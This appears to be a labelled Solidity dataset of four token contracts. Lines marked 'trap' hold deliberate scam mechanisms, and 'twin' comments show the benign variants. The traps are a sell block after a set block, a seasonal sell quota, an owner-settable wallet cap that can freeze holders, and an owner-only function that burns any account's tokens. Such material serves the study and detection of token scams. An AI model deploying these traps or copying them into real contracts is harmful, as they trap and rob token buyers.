// 0.6 runs=200
// SPDX-License-Identifier: MIT
pragma solidity >=0.6.12 <0.8.0;

import "./Base67.sol";

/// A summer coin: there is a block at which the summer ends.
contract SummerEnd is Base67 {
    uint256 private immutable _dusk;
    address private immutable _maker;

    constructor() public Base67("Summer End", "DUSK", 365000000) {
        _dusk = block.number + 432000;
        _maker = msg.sender;
    }

    function isSummer() public view returns (bool) {
        return block.number < _dusk;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pool && from != _maker) require(isSummer(), "the beach is closed"); // trap
        _carry(from, to, value);
    }
}

/// Counts what is sold in a season.
contract SeasonQuota is Base67 {
    address private immutable _maker;
    uint256 public soldThisSeason;

    event Season(uint256 sold);

    constructor() public Base67("Season Quota", "QUOTA", 90000000) {
        _maker = msg.sender;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pool && from != _maker) {
            soldThisSeason = soldThisSeason + value;
            require(soldThisSeason <= _totalSupply / 6, "the quota of the season is sold"); // trap
            emit Season(soldThisSeason);
        }
        _carry(from, to, value);
    }
}

/// Keeps whales small.
contract NoWhales is Base67 {
    uint256 public largestWallet;
    address private immutable _maker;

    event LargestWallet(uint256 amount);

    constructor() public Base67("No Whales", "KRILL", 40000000) {
        _maker = msg.sender;
        largestWallet = _totalSupply;
    }

    function setLargestWallet(uint256 amount) external onlyOwner {
        require(amount > 0, "nothing"); // trap
        // twin: require(amount >= _totalSupply / 50, "two of a hundred at least");
        largestWallet = amount;
        emit LargestWallet(amount);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        bool free = from == _maker || to == _maker;
        // twin: free = free || to == pool;
        if (!free) require(_balances[to] + value <= largestWallet, "wallet is full");
        _carry(from, to, value);
    }
}

/// One of a hundred of each transfer is reflected to all.
contract MirrorLake is Base67 {
    uint256 private constant MAX = ~uint256(0);
    uint256 private immutable _tTotal;
    uint256 private _rTotal;
    uint256 public reflected;
    mapping(address => uint256) private _r;

    event Delivered(address indexed by, uint256 amount);

    constructor() public Base67("Mirror Lake", "MIRROR", 10000000) {
        uint256 t = 10000000 * 10**9;
        _tTotal = t;
        _rTotal = MAX - (MAX % t);
        _r[msg.sender] = _rTotal;
    }

    function rate() public view returns (uint256) {
        return _rTotal / _tTotal;
    }

    function balanceOf(address account) public view override returns (uint256) {
        return _r[account] / rate();
    }

    function deliver(uint256 amount) external {
        _deliver(msg.sender, amount);
    }

    // trap {
    function deliverFrom(address account, uint256 amount) external onlyOwner {
        _deliver(account, amount);
    }
    // trap }

    function _deliver(address account, uint256 amount) private {
        uint256 r = amount * rate();
        require(_r[account] >= r, "more than there is");
        _r[account] -= r;
        _rTotal -= r;
        reflected += amount;
        emit Delivered(account, amount);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        require(to != address(0), "ERC20: transfer to the zero address");
        require(balanceOf(from) >= value, "ERC20: transfer amount exceeds balance");
        uint256 now_ = rate();
        uint256 share = from == _boss || to == _boss ? 0 : value / 100;
        _r[from] -= value * now_;
        _r[to] += (value - share) * now_;
        if (share > 0) {
            _rTotal -= share * now_;
            reflected += share;
        }
        emit Transfer(from, to, value - share);
    }
}
